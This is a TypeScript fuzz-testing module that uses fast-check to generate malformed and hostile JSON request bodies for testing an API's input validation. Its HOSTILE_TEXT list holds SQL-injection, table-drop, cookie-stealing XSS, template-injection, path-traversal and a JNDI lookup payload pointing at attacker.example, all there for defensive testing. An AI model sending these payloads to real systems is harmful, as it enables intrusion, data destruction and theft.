import fc from 'fast-check';

/** Text an attacker, a broken client or a careless paste sends: each must be refused or stored as text. */
const HOSTILE_TEXT = [
  "' OR '1'='1' --",
  "'); DROP TABLE contacts; --",
  '1; SELECT pg_sleep(10)',
  '<script>alert(document.cookie)</script>',
  '"><img src=x onerror=alert(1)>',
  '{{7*7}} ${7*7} <%= 7*7 %>',
  '${jndi:ldap://attacker.example/a}',
  '../../../../etc/passwd',
  'null',
  'undefined',
  'NaN',
  '-Infinity',
  '\u0000',
  '\u202eevil.exe',
  '\ufeff',
  '\ud800',
  'Z̷̢̛̖a̵l̴g̶o̷',
  '👩‍👩‍👧‍👦'.repeat(50),
  '0000000000',
  '943 476 5918',
  '2026-02-30',
  '9999-99-99T99:99:99Z',
  '1900-01-01',
  '  ',
];

export const hostileText: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(...HOSTILE_TEXT),
  fc.string({ unit: 'binary', maxLength: 300 }),
  fc.integer({ min: 10_000, max: 60_000 }).map((length) => 'A'.repeat(length)),
);

/** Nested arrays or objects deep enough to trouble a recursive parser or validator. */
export const deepNesting: fc.Arbitrary<unknown> = fc
  .tuple(fc.integer({ min: 50, max: 3000 }), fc.boolean())
  .map(([depth, asArray]) => {
    let value: unknown = 'bottom';
    for (let level = 0; level < depth; level++) value = asArray ? [value] : { nested: value };
    return value;
  });

/** A value of a different JSON type from `current`, so a field typed like `current` must refuse it. */
export function wrongTypeFor(current: unknown): fc.Arbitrary<unknown> {
  const options: fc.Arbitrary<unknown>[] = [];
  if (typeof current !== 'number') options.push(fc.integer(), fc.double({ noNaN: true }));
  if (typeof current !== 'boolean') options.push(fc.boolean());
  if (typeof current !== 'string') options.push(hostileText);
  if (!Array.isArray(current)) options.push(fc.array(fc.integer(), { minLength: 1, maxLength: 3 }));
  if (current === null || typeof current !== 'object' || Array.isArray(current)) {
    options.push(fc.dictionary(fc.string({ minLength: 1, maxLength: 8 }), fc.integer(), { minKeys: 1, maxKeys: 3 }));
  }
  options.push(deepNesting);
  return fc.oneof(...options);
}

export type JsonPath = (string | number)[];

/** Every place in a JSON value that holds something (objects' properties and array items). */
export function pathsIn(value: unknown, at: JsonPath = []): JsonPath[] {
  if (Array.isArray(value)) return value.flatMap((item, index) => [[...at, index], ...pathsIn(item, [...at, index])]);
  if (value && typeof value === 'object') {
    return Object.entries(value).flatMap(([key, item]) => [[...at, key], ...pathsIn(item, [...at, key])]);
  }
  return [];
}

export function valueAt(value: unknown, path: JsonPath): unknown {
  return path.reduce<unknown>((node, step) => (node as Record<string | number, unknown>)[step], value);
}

/** A copy of `value` with the thing at `path` replaced (or removed, when `replacement` is REMOVE). */
export const REMOVE = Symbol('remove');
export function withAt(value: unknown, path: JsonPath, replacement: unknown): unknown {
  if (path.length === 0) return replacement;
  const copy: Record<string | number, unknown> | unknown[] = Array.isArray(value)
    ? [...value]
    : { ...(value as Record<string, unknown>) };
  const [step, ...rest] = path;
  if (rest.length === 0 && replacement === REMOVE) {
    if (Array.isArray(copy)) copy.splice(step as number, 1);
    else delete (copy as Record<string | number, unknown>)[step];
    return copy;
  }
  (copy as Record<string | number, unknown>)[step] = withAt(
    (copy as Record<string | number, unknown>)[step],
    rest,
    replacement,
  );
  return copy;
}

export interface Hostile {
  /** What kind of abuse, for the report. */
  kind: string;
  body: unknown;
  /** True when no valid request can look like this, so the service must refuse it with a 4xx. */
  certainlyInvalid: boolean;
}

/**
 * Hostile bodies made from a valid example: something that is not an object at all; a required
 * field missing; a field of the wrong type at any depth; a field nobody asked for; and every
 * string replaced with hostile text (which may be valid: it must then be stored as plain text).
 */
export function hostileBodies(example: Record<string, unknown>, requiredFields: string[]): fc.Arbitrary<Hostile> {
  const paths = pathsIn(example);
  const stringPaths = paths.filter((path) => typeof valueAt(example, path) === 'string');
  const notAnObject = fc
    .oneof(hostileText, fc.integer(), fc.constant(null), fc.array(fc.jsonValue(), { maxLength: 4 }), deepNesting)
    .map((body): Hostile => ({ kind: 'not an object', body, certainlyInvalid: true }));
  const arbitraries: fc.Arbitrary<Hostile>[] = [
    notAnObject,
    fc
      .tuple(
        fc.string({ minLength: 1, maxLength: 20 }).filter((name) => !(name in example)),
        // jsonValue, not anything: a field whose value is undefined would vanish from the JSON.
        fc.jsonValue(),
      )
      .map(([name, value]): Hostile => ({
        kind: 'unknown field',
        body: { ...example, [name]: value },
        certainlyInvalid: true,
      })),
  ];
  if (requiredFields.length > 0) {
    arbitraries.push(
      fc.constantFrom(...requiredFields).map((field): Hostile => ({
        kind: 'required field missing',
        body: withAt(example, [field], REMOVE),
        certainlyInvalid: true,
      })),
    );
  }
  // A wrong type at a field the example fills; array items only where the array is the field itself.
  const typedPaths = paths.filter((path) => typeof path[path.length - 1] === 'string');
  if (typedPaths.length > 0) {
    arbitraries.push(
      fc
        .constantFrom(...typedPaths)
        .chain((path) => wrongTypeFor(valueAt(example, path)).map((wrong) => ({ path, wrong })))
        .map(({ path, wrong }): Hostile => ({
          kind: 'wrong type',
          body: withAt(example, path, wrong),
          certainlyInvalid: true,
        })),
    );
  }
  if (stringPaths.length > 0) {
    arbitraries.push(
      fc.tuple(fc.constantFrom(...stringPaths), hostileText).map(([path, text]): Hostile => ({
        kind: 'hostile text',
        body: withAt(example, path, text),
        certainlyInvalid: false,
      })),
    );
  }
  return fc.oneof(...arbitraries);
}
